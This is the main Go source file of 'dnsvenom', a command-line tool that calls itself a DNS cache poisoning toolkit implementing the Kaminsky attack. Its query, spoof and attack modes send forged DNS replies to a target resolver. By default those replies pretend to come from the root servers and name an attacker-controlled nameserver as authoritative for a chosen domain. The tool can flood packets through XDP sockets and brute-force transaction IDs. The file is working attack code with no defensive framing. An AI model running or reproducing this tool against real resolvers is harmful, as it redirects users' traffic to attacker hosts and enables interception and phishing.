/*
dnsvenom: a DNS cache poisoning toolkit implementing the Kaminsky attack
*/
package main

import (
	"errors"
	"flag"
	"fmt"
	"net"
	"time"

	"golang.org/x/exp/rand"
)

func main() {
	cfg := DefaultConfig()

	var (
		configFile = flag.String("config", "", "YAML or JSON config file")
		mode       = flag.String("mode", "", "Mode to run: query, spoof or attack")

		hostname        = flag.String("hostname", "", "Hostname to query or spoof a response for (query, spoof)")
		dnsServer       = flag.String("dns-server", "", "IP or hostname of the DNS server to query (query)")
		targetAddr      = flag.String("target-addr", "", "Resolver to send spoofed replies to (spoof, attack)")
		spoofedAddrs    = flag.String("spoofed-addrs", "", "Comma-separated IPs to spoof responses from; attack mode defaults to the root servers (spoof, attack)")
		attackerNS      = flag.String("attacker-ns", "", "Nameserver to advertise as authoritative (spoof, attack)")
		spoofedResponse = flag.String("spoofed-response", "", "IP returned as the spoofed A record (spoof)")
		targetDomain    = flag.String("target-domain", "", "Domain to poison, e.g. example.com (attack)")
		duration        = flag.Float64("duration", 5, "How long to run the attack, in seconds (attack)")
	)

	nic := flag.String("interface", cfg.NIC, "Send the flood through an XDP socket on this interface (attack)")
	queue := flag.Int("queue", cfg.QueueID, "Interface queue for the XDP socket")
	burst := flag.Int("burst", cfg.BurstSize, "Spoofed packets per flood burst")
	workers := flag.Int("workers", cfg.FloodWorkers, "Concurrent flood workers per burst")
	bruteForce := flag.Bool("brute-force-ids", cfg.BruteForceIDs, "Spray a window of guessed transaction IDs instead of reusing the trigger's")
	text := flag.Bool("text", cfg.TextOutput, "Use simple text output instead of the interactive UI")
	verbose := flag.Bool("verbose", cfg.Verbose, "Enable verbose output")
	flag.Parse()

	if *configFile != "" {
		loaded, err := LoadConfigFile(*configFile)
		if err != nil {
			appLogger.FatalErr("loading config", err)
		}
		cfg = loaded
	}
	// Explicit flags win over the config file.
	flag.Visit(func(f *flag.Flag) {
		switch f.Name {
		case "interface":
			cfg.NIC = *nic
		case "queue":
			cfg.QueueID = *queue
		case "burst":
			cfg.BurstSize = *burst
		case "workers":
			cfg.FloodWorkers = *workers
		case "brute-force-ids":
			cfg.BruteForceIDs = *bruteForce
		case "text":
			cfg.TextOutput = *text
		case "verbose":
			cfg.Verbose = *verbose
		}
	})

	if cfg.Verbose {
		appLogger.SetLevel(DEBUG)
	}
	if err := cfg.Validate(); err != nil {
		appLogger.FatalErr("invalid configuration", err)
	}

	rng := rand.New(rand.NewSource(uint64(time.Now().UnixNano())))

	switch *mode {
	case "query":
		runQuery(cfg, rng, *hostname, *dnsServer)
	case "spoof":
		runSpoof(cfg, rng, *targetAddr, *spoofedAddrs, *hostname, *attackerNS, *spoofedResponse)
	case "attack":
		runAttack(cfg, rng, *targetAddr, *spoofedAddrs, *attackerNS, *targetDomain, *duration)
	default:
		appLogger.Fatal("unknown mode %q, expected query, spoof or attack", *mode)
	}
}

func requireArg(value, name, mode string) string {
	if value == "" {
		appLogger.Fatal("-%s is required for %s mode", name, mode)
	}
	return value
}

func mustIPv4(value, name string) net.IP {
	ip := net.ParseIP(value)
	if ip == nil || ip.To4() == nil {
		appLogger.FatalErr("parsing -"+name, fmt.Errorf("%w: %q", ErrInvalidAddress, value))
	}
	return ip.To4()
}

func runQuery(cfg *Config, rng *rand.Rand, hostname, dnsServer string) {
	requireArg(hostname, "hostname", "query")
	requireArg(dnsServer, "dns-server", "query")

	client := NewClient(dnsServer)
	client.Timeout = cfg.QueryTimeout

	appLogger.Info("querying %s for %s", dnsServer, hostname)
	response, err := client.Query(uint16(rng.Uint32()), hostname)
	if err != nil {
		if errors.Is(err, ErrTimeout) {
			appLogger.Warn("no answer: %v", err)
			return
		}
		appLogger.FatalErr("query failed", err)
	}

	if response.Header.RCode != 0 {
		appLogger.Warn("server returned RCODE %d", response.Header.RCode)
	}
	if len(response.Answers) == 0 {
		appLogger.Info("response carried no answer records")
	}
	for i := range response.Answers {
		appLogger.Success("answer: %s", formatRecord(&response.Answers[i]))
	}
	for i := range response.Authorities {
		appLogger.Info("authority: %s", formatRecord(&response.Authorities[i]))
	}
}

func formatRecord(rr *ResourceRecord) string {
	switch rr.Type {
	case TypeA:
		return fmt.Sprintf("%s -> %s (TTL %d)", rr.Name, net.IP(rr.Addr[:]), rr.TTL)
	case TypeNS:
		return fmt.Sprintf("%s NS %s (TTL %d)", rr.Name, rr.NS, rr.TTL)
	default:
		return fmt.Sprintf("%s type %d, %d bytes of RDATA", rr.Name, rr.Type, len(rr.Data))
	}
}

func runSpoof(cfg *Config, rng *rand.Rand, targetAddr, spoofedAddrs, hostname, attackerNS, spoofedResponse string) {
	requireArg(targetAddr, "target-addr", "spoof")
	requireArg(spoofedAddrs, "spoofed-addrs", "spoof")
	requireArg(hostname, "hostname", "spoof")
	requireArg(attackerNS, "attacker-ns", "spoof")
	requireArg(spoofedResponse, "spoofed-response", "spoof")

	target := mustIPv4(targetAddr, "target-addr")
	answer := mustIPv4(spoofedResponse, "spoofed-response")
	sources, err := parseIPv4List(spoofedAddrs)
	if err != nil {
		appLogger.FatalErr("parsing -spoofed-addrs", err)
	}

	spoofer, err := NewRawSpoofer()
	if err != nil {
		appLogger.FatalErr("opening spoof channel", err)
	}
	defer spoofer.Close()

	// Only the first spoofed address is used for the single shot.
	if err := SpoofOnce(spoofer, cfg, rng, sources[0], target, answer, hostname, attackerNS); err != nil {
		appLogger.FatalErr("sending spoofed response", err)
	}
	appLogger.Success("sent spoofed response: %s -> %s, authority %s NS %s, from %s to %s",
		hostname, answer, parentDomain(hostname), attackerNS, sources[0], target)
}

func runAttack(cfg *Config, rng *rand.Rand, targetAddr, spoofedAddrs, attackerNS, targetDomain string, durationSecs float64) {
	requireArg(targetAddr, "target-addr", "attack")
	requireArg(attackerNS, "attacker-ns", "attack")
	requireArg(targetDomain, "target-domain", "attack")

	target := mustIPv4(targetAddr, "target-addr")
	sources, err := parseIPv4List(spoofedAddrs)
	if err != nil {
		appLogger.FatalErr("parsing -spoofed-addrs", err)
	}
	if len(sources) == 0 {
		appLogger.Info("no -spoofed-addrs given, spoofing from the root servers")
		sources = defaultSpoofedAddrs
	}

	params := AttackParameters{
		TargetAddr:   target,
		SpoofedAddrs: sources,
		AttackerNS:   attackerNS,
		TargetDomain: targetDomain,
		Duration:     time.Duration(durationSecs * float64(time.Second)),
	}

	var spoofer SpoofTransport
	if cfg.NIC != "" {
		spoofer, err = NewXDPSpoofer(cfg, target)
	} else {
		spoofer, err = NewRawSpoofer()
	}
	if err != nil {
		appLogger.FatalErr("opening spoof channel", err)
	}
	defer spoofer.Close()

	trigger := NewClient(target.String())
	trigger.Timeout = cfg.QueryTimeout

	attack := NewAttack(params, cfg, rng, spoofer, trigger)

	appLogger.Info("commencing attack on %s: poisoning %s with NS %s for %v",
		target, targetDomain, attackerNS, params.Duration)

	stopStats := make(chan struct{})
	programDone := make(chan struct{})
	go statsCollector(&attack.Metrics, params.Duration, cfg, stopStats, programDone)

	runErr := attack.Run()
	close(stopStats)
	<-programDone

	if runErr != nil {
		appLogger.FatalErr("attack aborted", runErr)
	}
	appLogger.Success("attack complete: %d cycles, %d trigger queries, %d spoofed packets",
		attack.Metrics.Cycles.Load(), attack.Metrics.TriggersSent.Load(), attack.Metrics.SpoofedSent.Load())
	appLogger.Info("verify with: %s -mode query -hostname <name>.%s -dns-server %s",
		"dnsvenom", targetDomain, target)
}
